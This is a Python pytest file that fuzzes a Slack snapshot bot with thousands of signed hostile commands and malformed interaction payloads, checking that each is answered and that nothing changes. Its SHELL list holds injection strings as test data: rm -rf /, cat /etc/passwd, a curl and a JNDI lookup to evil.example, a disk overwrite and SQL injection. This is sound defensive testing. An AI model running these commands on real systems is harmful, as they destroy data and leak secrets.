"""Hostile input over HTTP (SPEC §4, §8: the bot never crashes on bad input and never
leaves a user without an answer; malformed arguments send nothing to the provider).

One LocalStack serves every test here. The requests are real: signed exactly as Slack
signs them, sent over loopback HTTP to the app's WSGI server, several at a time.

* 10,000 command texts from a seeded generator: unicode of every plane, quotes,
  control characters, 10 KB strings, negative / huge / float / non-ASCII ids, shell
  metacharacters, Slack's mention and link syntax, empty text. Those the grammar
  refuses are answered in the ack and never reach the provider; the rest (valid but
  unknown ids, weird server names, list/audit/pending) are answered by their job.
* Malformed interactive payloads: invalid JSON, a payload that is not an object,
  missing and mistyped fields, unknown action ids, oversize bodies, the wrong content
  type, GET, no signature; and a seeded mutation of real payloads.

Every request is answered within Slack's 3 s (the client gives up after that) with a
status below 500 (401 unsigned, 413 oversize), nothing invalid writes to the provider,
no job ends in an internal error, and the app is still healthy at the end.
"""

from __future__ import annotations

import json
import multiprocessing
import random
import time
from collections import Counter
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from urllib.parse import parse_qs, urlencode

import httpx
import pytest
from sqlalchemy import text

from bot.blocks import ids
from bot.core import commands as cmd
from bot.listeners import inbound
from snapbot_local.harness import HANG_GUARD_S
from snapbot_local.slack.signing import (
    block_actions_body,
    sign,
    slash_command_body,
    view_submission_body,
)
from snapbot_local.stack import SIGNING_SECRET, LocalStack
from storage import repositories as repo
from storage.db import session_scope
from tests.conftest import wait_until

SEED = 20250116
COMMANDS = 10_000
SENDERS = 4
EXISTING_SNAPSHOTS = frozenset({801, 798})
USERS = ("U1", "U2", "UHOSTILE", "W0123ABC")

# --- the generator ------------------------------------------------------------------------

SUBCOMMANDS = ["list", "create", "restore", "delete", "audit", "pending", "help", "LIST", "Restore"]
RANGES = [
    (0x20, 0x7E),  # ASCII
    (0xA0, 0x24F),  # Latin-1, Latin extended
    (0x370, 0x3FF),  # Greek
    (0x590, 0x6FF),  # Hebrew, Arabic (right to left)
    (0x900, 0x97F),  # Devanagari
    (0x2000, 0x206F),  # spaces, zero widths, bidi controls, line/paragraph separators
    (0x3040, 0x30FF),  # kana
    (0x4E00, 0x4FFF),  # CJK
    (0xFF00, 0xFFEF),  # fullwidth forms (fullwidth digits)
    (0x1F300, 0x1F64F),  # emoji
    (0x10000, 0x1007F),  # Linear B: outside the BMP
    (0xE0000, 0xE007F),  # tag characters
]
CONTROL = [chr(c) for c in [*range(0, 32), 0x7F, 0x85, 0x2028, 0x2029, 0x202E, 0x200B, 0xFEFF]]
IDS = [
    "-1",
    "-801",
    "0",
    "00801",
    "+801",
    "801.0",
    "1.5",
    "1e3",
    "0x321",
    "9" * 17,
    "9" * 40,
    str(2**53),
    str(2**64),
    "NaN",
    "inf",
    "٨٠١",  # Arabic-Indic digits
    "\uff18\uff10\uff11",  # fullwidth digits
    "801abc",
    " 801 ",
    "80 1",
    "99999",
    "12345",
]
SHELL = [
    "; rm -rf /",
    "$(reboot)",
    "`id`",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x",
    "> /dev/sda",
    "../../etc/passwd",
    "%s%s%n%x",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE audit_event;--",
    "\\",
    "$HOME",
    "*",
    "~root",
    # Bolt once took any body with this word in it for an interactivity payload.
    "payload",
    "payload={}",
    "&payload=%7B%7D",
]
SLACK_SYNTAX = [
    "<@U0123ABC>",
    "<@U1|alice>",
    "<#C0123|general>",
    "<!channel>",
    "<!here>",
    "<!subteam^S0OPS|ops>",
    "<https://evil.example|click>",
    "<mailto:a@b.c|mail>",
    "&lt;@U1&gt;",
    "&amp;&amp;",
    "*bold* _it_ ~s~ `code`",
    "```block```",
    ":rotating_light:",
]
QUOTES = [
    '"',
    "'",
    "\u201c",
    "\u201d",
    "\u2018",
    "\u2019",
    '""',
    "''",
    '"unbalanced',
    "it's",
    'a "b c" d',
    '\\"',
]


def _unicode(rng: random.Random, n: int) -> str:
    out = []
    for _ in range(n):
        lo, hi = rng.choice(RANGES)
        out.append(chr(rng.randint(lo, hi)))
    return "".join(out)


def _word(rng: random.Random) -> str:
    kind = rng.randrange(9)
    if kind == 0:
        return _unicode(rng, rng.randint(1, 12))
    if kind == 1:
        return rng.choice(IDS)
    if kind == 2:
        return rng.choice(SHELL)
    if kind == 3:
        return rng.choice(SLACK_SYNTAX)
    if kind == 4:
        return rng.choice(QUOTES)
    if kind == 5:
        return "".join(rng.choice(CONTROL) for _ in range(rng.randint(1, 3))) + _unicode(rng, 2)
    if kind == 6:
        return rng.choice(["web-server-01", "db-server-01", "no-such-server", "a" * 64, ".", "-"])
    if kind == 7:
        return rng.choice(["pre-migration-snapshot", "snap_1", "x" * 101, "ok-name"])
    return str(rng.randint(-(10**6), 10**6))


def hostile_text(rng: random.Random) -> str:
    shape = rng.random()
    if shape < 0.02:
        return rng.choice(["", " ", "\t", "\n", "\u3000", "\u200b"])
    if shape < 0.04:  # 10 KB and more
        return rng.choice(SUBCOMMANDS) + " " + _unicode(rng, 1) * rng.randint(10_000, 12_000)
    if shape < 0.10:
        return _unicode(rng, rng.randint(1, 80))
    sub = rng.choice([*SUBCOMMANDS, _word(rng)])
    words = 0 if rng.random() < 0.04 else rng.randint(1, 5)
    return " ".join([sub, *(_word(rng) for _ in range(words))])


def acceptable(text: str) -> bool:
    """Not a text that would legitimately change something: no valid create (a provider
    write), no restore request or delete prompt for a snapshot that exists."""
    parsed = cmd.parse(text)
    if isinstance(parsed, cmd.CreateSnapshot):
        return False
    return not (
        isinstance(parsed, cmd.RequestRestore | cmd.DeleteSnapshot)
        and parsed.snapshot_id in EXISTING_SNAPSHOTS
    )


def corpus(n: int, seed: int = SEED) -> list[str]:
    rng = random.Random(seed)
    texts: list[str] = []
    while len(texts) < n:
        t = hostile_text(rng)
        if acceptable(t):
            texts.append(t)
    return texts


# --- the stack and the sender -----------------------------------------------------------


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile")
    s = LocalStack(database_url=f"sqlite:///{path / 'hostile.db'}", poll_seconds=1.0)
    s.start()
    yield s
    s.stop()


class Sender:
    """Signed POSTs over one keep-alive httpx client, from a few threads of a process
    of its own: the client's work then does not compete with the app's for this
    process's interpreter lock, and the app is measured, not the test."""

    def __init__(self, url: str) -> None:
        self.url = url
        self._pool = ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("spawn"))

    def post_all(self, requests: list[tuple[bytes, dict]]) -> list[tuple]:
        """(status, content type, body, seconds) per request, in order."""
        return self._pool.submit(send_all, self.url, requests, SENDERS).result(timeout=300)

    def close(self) -> None:
        self._pool.shutdown()


def send_all(url: str, requests: list[tuple[bytes, dict]], senders: int) -> list[tuple]:
    """In the sender process: post everything, ``senders`` at a time, over one client."""
    client = httpx.Client(
        # Slack gives up after 3 s, but how fast the acks come on a
        # loaded machine is bench/ack_latency.py's question; here only the answers count.
        timeout=httpx.Timeout(HANG_GUARD_S),
        limits=httpx.Limits(max_connections=senders),
    )

    def post(request: tuple[bytes, dict]) -> tuple:
        started = time.perf_counter()
        try:
            r = client.post(url, content=request[0], headers=request[1])
        except httpx.HTTPError as exc:  # a timeout past 3 s included
            return -1, type(exc).__name__, b"", time.perf_counter() - started
        return (
            r.status_code,
            r.headers.get("content-type", ""),
            r.content,
            (time.perf_counter() - started),
        )

    with client, ThreadPoolExecutor(senders) as pool:
        return list(pool.map(post, requests))


def _well_formed(status: int, ctype: str, content: bytes) -> bool:
    """A status below 500, and a body that is what its content type says."""
    if not 0 < status < 500:
        return False
    if "json" in ctype:
        try:
            json.loads(content)
        except ValueError:
            return False
    return True


def _settled(stack: LocalStack) -> bool:
    with session_scope(stack.runtime.engine, readonly=True) as s:
        busy = repo.count_jobs(s, states=("queued", "running"))
        unsent = repo.count_messages(s, state="pending")
    return busy == 0 and unsent == 0


def _provider_writes(stack: LocalStack) -> dict[str, int]:
    return {k: n for k, n in stack.sim.state.calls.items() if not k.startswith(("GET", "HEAD"))}


def _scalar(stack: LocalStack, sql: str) -> int:
    with stack.runtime.engine.connect() as conn:
        return conn.execute(text(sql)).scalar_one()


# --- 10,000 commands ----------------------------------------------------------------------


@pytest.mark.slow
def test_ten_thousand_hostile_commands_are_all_answered_and_change_nothing(stack):
    texts = corpus(COMMANDS)
    # The app parses the text as typed (Slack's escaping undone) and refuses control
    # characters before parsing (SPEC §14.8): both answered in the ack.
    parsed = [cmd.parse(inbound.typed(t)) for t in texts]
    controlled = {i for i, t in enumerate(texts) if inbound.controls_in({"text": t})}
    usage = {i for i, p in enumerate(parsed) if isinstance(p, cmd.UsageError | cmd.Help)}
    refused = sorted(controlled | usage)
    worked = [i for i in range(len(texts)) if i not in controlled and i not in usage]
    kinds = Counter(type(p).__name__ for p in parsed)
    assert len(refused) > COMMANDS * 0.8 and len(worked) > 50, kinds  # the corpus is hostile
    fake = stack.slack
    names = [f"h{i}" for i in range(COMMANDS)]
    triggers = [fake.new_trigger_id() for _ in range(COMMANDS)]

    def request(i: int) -> tuple[bytes, dict]:
        user = USERS[i % len(USERS)]
        body = slash_command_body(
            texts[i],
            user_id=user,
            response_url=fake.response_url(names[i], channel="C1", user=user),
            trigger_id=triggers[i],
        )
        return body, sign(SIGNING_SECRET, body)

    sender = Sender(stack.url)
    jobs_before = _scalar(stack, "SELECT count(*) FROM job")
    try:
        # First everything the grammar refuses: answered in the ack itself, so not one
        # of them may reach the provider or even become a job.
        first, then = [request(i) for i in refused], [request(i) for i in worked]
        started, cpu = time.perf_counter(), time.process_time()
        results = dict(zip(refused, sender.post_all(first), strict=True))
        assert stack.sim.state.calls == Counter()
        assert _scalar(stack, "SELECT count(*) FROM job") == jobs_before
        # Then the well-formed ones, whose jobs look things up with GETs.
        results.update(zip(worked, sender.post_all(then), strict=True))
        sent_in, cpu = time.perf_counter() - started, time.process_time() - cpu
    finally:
        sender.close()

    bad = {i: (texts[i][:80], r[:2]) for i, r in results.items() if not _well_formed(*r[:3])}
    assert bad == {}
    slowest = max(r[3] for r in results.values())
    assert all(r[0] == 200 for r in results.values())
    for i in refused:
        _, ctype, content, _ = results[i]
        expected = "control characters" if i in controlled else "Usage"
        assert "json" in ctype and expected in json.loads(content)["text"], texts[i][:80]

    # Every accepted command ends with an answer to its user: a response_url post, or
    # (the bare `create`) the form it opened or a word on why it could not.
    stack.slack.wait_for(lambda: _settled(stack), 60, what="every job to finish")
    answered = {r.name for r in fake.responses() if r.status == 200}
    opened = {v.trigger_id for v in fake.views()}
    unanswered = [
        texts[i][:80] for i in worked if names[i] not in answered and triggers[i] not in opened
    ]
    assert unanswered == []
    assert _provider_writes(stack) == {}
    assert _scalar(stack, "SELECT count(*) FROM job WHERE error != ''") == 0
    crashes = _scalar(
        stack,
        "SELECT count(*) FROM audit_event WHERE action LIKE '%.crash' OR action = 'listener.error'",
    )
    assert crashes == 0
    assert fake.invalid_payloads == []
    print(
        f"\n{COMMANDS} commands in {sent_in:.1f} s ({COMMANDS / sent_in:.0f}/s; the app's "
        f"process used {cpu:.1f} s of CPU), slowest ack {slowest * 1000:.0f} ms; "
        f"{len(refused)} refused in the ack, {len(worked)} run: {dict(kinds)}"
    )


# --- malformed interactive payloads ---------------------------------------------------------


def _payload_of(body: bytes) -> dict:
    return json.loads(parse_qs(body.decode())["payload"][0])


def _form(payload) -> bytes:
    raw = payload if isinstance(payload, str) else json.dumps(payload)
    return urlencode({"payload": raw}).encode()


def _signed(body: bytes, content_type: str | None = None) -> dict:
    headers = sign(SIGNING_SECRET, body)
    if content_type is not None:
        headers["Content-Type"] = content_type
    return headers


def malformed_cases(stack: LocalStack) -> dict[str, tuple[bytes, dict, set[int]]]:
    """name -> (body, headers, the statuses that are right for it)."""
    url = stack.slack.response_url("malformed", channel="C1", user="U1")
    press = _payload_of(
        block_actions_body(ids.APPROVE, "424242", message_ts="1.000001", response_url=url)
    )
    view = _payload_of(
        view_submission_body(
            ids.CREATE_MODAL,
            {
                ids.CREATE_SERVER_BLOCK: {ids.CREATE_SERVER_ACTION: "web-server-01"},
                ids.CREATE_NAME_BLOCK: {ids.CREATE_NAME_ACTION: "not a valid name!"},
            },
        )
    )
    refused, ignored = {400}, {200, 404}
    cases: dict[str, tuple[bytes, dict, set[int]]] = {}

    def add(name: str, body: bytes, expected: set[int], content_type: str | None = None):
        cases[name] = (body, _signed(body, content_type), expected)

    add("payload is not JSON", _form("{not json"), refused)
    add("payload is a list", _form([1, 2]), refused)
    add("payload is a number", _form("5"), refused)
    add("payload is a string", _form('"x"'), refused)
    add("payload is null", _form("null"), refused)
    add("payload is an empty object", _form({}), ignored)
    add("only a type", _form({"type": "block_actions"}), refused)
    add("no actions", _form({**press, "actions": []}), refused)
    add("actions is a string", _form({**press, "actions": "x"}), refused)
    add("an action is a number", _form({**press, "actions": [5]}), refused)
    add("an action without an id", _form({**press, "actions": [{"value": "1"}]}), refused)
    add("action_id is a number", _form({**press, "actions": [{"action_id": 5}]}), refused)
    add(
        "value is an object",
        _form({**press, "actions": [{**press["actions"][0], "value": {}}]}),
        refused,
    )
    add("user is a string", _form({**press, "user": "U1"}), refused)
    add("user id is null", _form({**press, "user": {"id": None}}), refused)
    add("user is missing", _form({k: v for k, v in press.items() if k != "user"}), {200})
    add("team is a list", _form({**press, "team": []}), refused)
    add("channel is a number", _form({**press, "channel": 7}), refused)
    add("container is a string", _form({**press, "container": "x"}), refused)
    add("response_url is not a URL", _form({**press, "response_url": "801"}), refused)
    add("response_urls is null", _form({**view, "response_urls": None}), refused)
    add("type is a number", _form({**press, "type": 5}), refused)
    add("an unknown type", _form({**press, "type": "weird"}), ignored)
    unknown = {**press, "actions": [{**press["actions"][0], "action_id": "drop_tables"}]}
    add("an unknown action id", _form(unknown), {200})
    huge_value = {**press, "actions": [{**press["actions"][0], "value": "9" * 5000}]}
    add("a 5 KB button value", _form(huge_value), {200})
    add("a view that is a string", _form({**view, "view": "x"}), refused)
    add("a view without a callback_id", _form({**view, "view": {"id": "V1"}}), refused)
    bad_state = {**view, "view": {**view["view"], "state": {"values": {"name": "x"}}}}
    add("view state values that are strings", _form(bad_state), refused)
    bad_option = {
        **view,
        "view": {
            **view["view"],
            "state": {"values": {"server": {"server_value": {"selected_option": "12345"}}}},
        },
    }
    add("a selected option that is a string", _form(bad_option), refused)
    add("a modal submission with an invalid name", _form(view), {200})
    add("JSON body that is a list", b"[1, 2]", refused, "application/json")
    add("JSON body that does not parse", b"{oops", refused, "application/json")
    add("JSON event of an unknown kind", b'{"type": "event_callback"}', ignored, "application/json")
    add("bytes that are not UTF-8", bytes(range(256)), refused)
    add("a form of garbage", b"%%%&&&===", ignored)
    add("an empty body", b"", ignored)
    add("plain text", b"hello", ignored, "text/plain")
    add(
        "a command about a payload",
        slash_command_body("restore 99999 the payload broke it", response_url=url),
        {200},
    )
    add(
        "a command from a channel named payload",
        slash_command_body("help", channel_name="payload-team", response_url=url),
        {200},
    )
    add(
        "a command that is not ours",
        urlencode({"command": "/other", "text": "list"}).encode(),
        ignored,
    )
    # Not signed, or signed wrongly, or out of time: 401 whatever the body.
    body = _form(press)
    cases["no signature"] = (body, {"Content-Type": "application/x-www-form-urlencoded"}, {401})
    cases["a wrong signature"] = (body, sign(SIGNING_SECRET + "x", body), {401})
    cases["a stale timestamp"] = (body, sign(SIGNING_SECRET, body, int(time.time()) - 400), {401})
    cases["a timestamp that is not a number"] = (
        body,
        {**sign(SIGNING_SECRET, body), "X-Slack-Request-Timestamp": "soon"},
        {401},
    )
    cases["unsigned garbage"] = (bytes(range(256)), {}, {401})
    huge = b"payload=" + b"a" * (1 << 20)
    cases["a body over 1 MB"] = (huge, _signed(huge), {413})
    return cases


def _mutations(stack: LocalStack, n: int, seed: int = SEED) -> list[bytes]:
    """Real payloads with random fields deleted or replaced by values of the wrong type."""
    rng = random.Random(seed)
    url = stack.slack.response_url("mutated", channel="C1", user="U1")
    bases = [
        _payload_of(block_actions_body(a, v, message_ts="1.000002", response_url=url))
        for a, v in [
            (ids.APPROVE, "424242"),
            (ids.REJECT, "424242"),
            (ids.RESTORE_OPEN, "99999"),
            (ids.DELETE_OPEN, "77"),
            (ids.DELETE_CONFIRM, "77:USOMEONE"),
            (ids.DELETE_CANCEL, "77:U1"),
            ("zzz_unknown", "q"),
        ]
    ]
    bases.append(
        _payload_of(
            view_submission_body(
                ids.CREATE_MODAL,
                {
                    ids.CREATE_SERVER_BLOCK: {ids.CREATE_SERVER_ACTION: "nope!"},
                    ids.CREATE_NAME_BLOCK: {ids.CREATE_NAME_ACTION: "x y"},
                },
            )
        )
    )
    # No value here names a snapshot or request that exists, so no mutation can turn
    # into a legitimate write.
    weird = [None, 0, -1, 1.5, 2**70, "", "x" * 3000, [], [1], {}, {"a": 1}, True,
             "\x00\u202e", "<@U1>", "0", "99999", "-1"]  # fmt: skip
    out = []
    for _ in range(n):
        d = json.loads(json.dumps(rng.choice(bases)))
        for _ in range(rng.randint(1, 3)):
            node = d
            while rng.random() < 0.6:
                children = [k for k, v in node.items() if isinstance(v, dict) and v]
                if not children:
                    break
                node = node[rng.choice(children)]
            key = rng.choice(list(node))
            if rng.random() < 0.2:
                del node[key]
            else:
                node[key] = json.loads(json.dumps(rng.choice(weird)))
            if not node:
                break
        out.append(_form(d))
    return out


def test_malformed_payloads_get_a_plain_answer_and_change_nothing(stack):
    cases = malformed_cases(stack)
    mutated = _mutations(stack, 600)
    sender = Sender(stack.url)
    writes_before = _provider_writes(stack)
    try:
        named = sender.post_all([(body, headers) for body, headers, _ in cases.values()])
        fuzzed = sender.post_all([(body, _signed(body)) for body in mutated])
        get = httpx.get(stack.url, timeout=HANG_GUARD_S)
    finally:
        sender.close()
    wrong = {
        name: r[:2]
        for (name, (_, _, expected)), r in zip(cases.items(), named, strict=True)
        if r[0] not in expected or not _well_formed(*r[:3])
    }
    assert wrong == {}
    statuses = Counter(r[0] for r in fuzzed)
    assert all(_well_formed(*r[:3]) for r in fuzzed), statuses
    assert get.status_code == 405
    stack.slack.wait_for(lambda: _settled(stack), HANG_GUARD_S, what="every job to finish")
    assert _provider_writes(stack) == writes_before
    assert _scalar(stack, "SELECT count(*) FROM job WHERE error != ''") == 0
    # Every signed refusal is on record, as a denied 'request.malformed' row.
    malformed_rows = _scalar(
        stack, "SELECT count(*) FROM audit_event WHERE action = 'request.malformed'"
    )
    signed_refusals = sum(1 for r in named + fuzzed if r[0] == 400)
    assert malformed_rows == signed_refusals
    # An unknown button is answered, not ignored.
    assert any(
        "does not know that button" in (p.payload.get("text") or "")
        for p in stack.slack.responses("malformed")
    )


def test_after_the_onslaught_the_app_is_healthy_and_a_plain_list_works(stack):
    health = httpx.get(stack.url.replace("/slack/events", "/healthz"), timeout=5)
    assert health.status_code == 200 and health.json()["ok"] is True
    user = stack.user("UAFTER")
    assert user.command("list").status_code == 200
    listing = wait_until(
        lambda: next(
            (e for e in stack.slack.ephemerals(user="UAFTER") if "snapshot(s)" in (e.text or "")),
            None,
        ),
        10,
        what="the list",
    )
    assert "2 snapshot(s)" in listing.text
    assert stack.sim.state.calls["POST snapshots/"] == 0
